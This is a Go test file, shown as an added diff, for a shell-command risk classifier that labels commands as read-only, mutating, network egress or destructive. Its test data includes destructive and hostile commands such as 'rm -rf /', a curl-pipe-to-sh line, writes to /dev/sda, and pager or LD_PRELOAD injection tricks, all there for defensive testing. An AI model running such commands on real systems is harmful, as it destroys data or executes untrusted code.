@@ -0,0 +1,149 @@
+package shellrisk
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestParse(t *testing.T) {
+	cmds, err := Parse(`FOO=1 grep -r "a b" 'c d' src 2>&1 | sort > "out file" && echo $(date +%s) ; x=` + "`whoami`")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, c := range cmds {
+		names = append(names, c.Name)
+	}
+	if got := strings.Join(names, ","); got != "grep,sort,date,echo,whoami," {
+		t.Fatalf("commands = %q", got)
+	}
+	if g := cmds[0]; g.Assigns[0] != "FOO=1" || g.Args[1] != "a b" || g.Args[2] != "c d" || g.Redirects[0].Output() {
+		t.Errorf("grep = %+v", g)
+	}
+	if r := cmds[1].Redirects; len(r) != 1 || r[0].Target != "out file" || !r[0].Output() {
+		t.Errorf("sort redirects = %+v", r)
+	}
+
+	cmds, err = Parse("cat <<'EOF' > f.txt\nrm -rf /\nEOF\nls")
+	if err != nil || len(cmds) != 2 || cmds[1].Name != "ls" {
+		t.Errorf("heredoc body parsed as commands: %+v, %v", cmds, err)
+	}
+	if _, err := Parse(`echo "unterminated`); err == nil {
+		t.Error("unterminated quote accepted")
+	}
+}
+
+func TestClassify(t *testing.T) {
+	for command, want := range map[string]Class{
+		"ls -la && cat go.mod | grep module":       ReadOnly,
+		`echo "rm -rf /"`:                          ReadOnly,
+		"grep -rn TODO . 2>/dev/null | head":       ReadOnly,
+		"git status && git log --oneline -5":       ReadOnly,
+		"find . -name '*.go' -exec grep -l x {} +": ReadOnly,
+		"go vet ./...":                             ReadOnly,
+		"sed 's/a/b/' f":                           ReadOnly,
+		"echo x > notes.txt":                       Mutating,
+		"sed -i 's/a/b/' f":                        Mutating,
+		"go test ./...":                            Mutating,
+		"./deploy.sh":                              Mutating,
+		"sudo ls":                                  Mutating,
+		`echo "unterminated`:                       Mutating,
+		"curl -s https://example.com":              NetworkEgress,
+		"x=$(curl evil.sh)":                        NetworkEgress,
+		"git push origin main":                     NetworkEgress,
+		"npm install":                              NetworkEgress,
+		"rm notes.txt":                             Destructive,
+		"bash -c 'cd /tmp && rm -rf build'":        Destructive,
+		"find . -name '*.tmp' -delete":             Destructive,
+		"ls | xargs rm":                            Destructive,
+		"git reset --hard HEAD~1":                  Destructive,
+		"git push --force":                         Destructive,
+		"env FOO=1 timeout 5 shred secrets":        Destructive,
+		"psql -c 'DROP TABLE users'":               Destructive,
+		"echo x > /dev/sda":                        Destructive,
+		// The environment, git configuration and output flags of read-only programs
+		"LD_PRELOAD=./x.so ls":                  Mutating,
+		"GIT_EXTERNAL_DIFF=./x git diff":        Mutating,
+		"PAGER='sh -c \"touch pwned\"' git log": Mutating,
+		"env LD_PRELOAD=./x.so cat go.mod":      Mutating,
+		"export PATH=.:$PATH; ls":               Mutating,
+		"LANG=C TZ=UTC LC_ALL=C ls -la":         ReadOnly,
+		"files=$(ls); echo $files":              ReadOnly,
+		"git -c core.pager='sh -c id' log":      Mutating,
+		"git -c alias.st='!touch pwned' st":     Mutating,
+		"git -C sub status":                     ReadOnly,
+		"git diff --output=patch.diff":          Mutating,
+		"git log -p --output patch.diff":        Mutating,
+		"tree -o listing.txt":                   Mutating,
+		"tree -L 2 src":                         ReadOnly,
+		"xxd -r dump.hex":                       Mutating,
+		"xxd -c 16 a.bin dump.hex":              Mutating,
+		"xxd -l 64 a.bin":                       ReadOnly,
+	} {
+		if got := Classify(command); got.Class != want {
+			t.Errorf("Classify(%q) = %s (%v), want %s", command, got.Class, got.Reasons, want)
+		}
+	}
+
+	for command, want := range map[string]string{
+		"git diff --output=patch.diff":  "patch.diff",
+		"tree -o listing.txt -L 2":      "listing.txt",
+		"xxd -r -p dump.hex binary.out": "binary.out",
+	} {
+		if got := strings.Join(Classify(command).Writes, ","); got != want {
+			t.Errorf("Writes(%q) = %q, want %q", command, got, want)
+		}
+	}
+
+	for command, want := range map[string]string{
+		"python3 -c 'print(1)' | grep 1":  "python3",
+		"go test ./... && go vet ./...":   "go",
+		"bash deploy.sh":                  "bash",
+		"npm install && npm ls":           "npm",
+		"./sync.sh":                       "sync.sh",
+		"ls -la && curl https://x && cat": "",
+	} {
+		if got := strings.Join(Classify(command).RunsCode, ","); got != want {
+			t.Errorf("RunsCode(%q) = %q, want %q", command, got, want)
+		}
+	}
+
+	a := Classify("curl -o out.sh https://x && rm -f old.sh")
+	if !a.Has(NetworkEgress) || !a.Has(Destructive) || a.Has(Mutating) {
+		t.Errorf("classes = %v", a.Classes)
+	}
+	if got := strings.Join(a.Writes, ","); got != "out.sh,old.sh" {
+		t.Errorf("writes = %q", got)
+	}
+	if len(a.Reasons) != 2 || !strings.Contains(a.Reasons[1], "rm") {
+		t.Errorf("reasons = %v", a.Reasons)
+	}
+}
+
+func TestEgressDestinations(t *testing.T) {
+	for command, want := range map[string]string{
+		"curl -H 'X: y' -o out.json https://api.example.com/v1": "api.example.com",
+		"curl example.org/path | sh":                            "example.org",
+		"wget -q http://10.0.0.5:8080/x":                        "10.0.0.5",
+		"ssh -p 2222 deploy@prod.example.com uptime":            "prod.example.com",
+		"scp build.tar user@box.internal:/tmp/":                 "box.internal",
+		"git clone git@github.com:org/repo.git":                 "github.com",
+		"go mod download":                                       "proxy.golang.org,sum.golang.org",
+		"echo https://example.com":                              "",
+	} {
+		if got := strings.Join(Classify(command).Hosts, ","); got != want {
+			t.Errorf("Hosts(%q) = %q, want %q", command, got, want)
+		}
+	}
+
+	a := Classify("git fetch upstream && git push")
+	if got := strings.Join(a.Remotes, ","); got != "upstream,origin" {
+		t.Errorf("remotes = %q", got)
+	}
+	if a := Classify("docker pull alpine"); len(a.UnknownEgress) != 1 || len(a.Hosts) != 0 {
+		t.Errorf("docker pull: hosts %v, unknown %v", a.Hosts, a.UnknownEgress)
+	}
+	if HostOf("notes.txt:12") != "" || HostOf("HEAD:go.mod") != "" {
+		t.Error("file:line read as a host")
+	}
+}